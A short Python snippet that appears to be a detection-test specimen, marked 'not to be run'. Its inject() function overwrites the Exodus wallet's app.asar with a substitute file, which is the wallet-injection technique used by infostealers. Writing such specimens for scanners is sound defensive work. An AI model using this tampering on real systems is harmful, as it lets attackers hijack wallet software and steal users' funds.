raise SystemExit("specimen: not to be run")
from glob import glob as look
from shutil import copyfile as put
from os import getenv as ask

def inject():
    put("a.asar", ask("LOCALAPPDATA") + "\\exodus\\app-1\\resources\\app.asar")  # match: application-injected
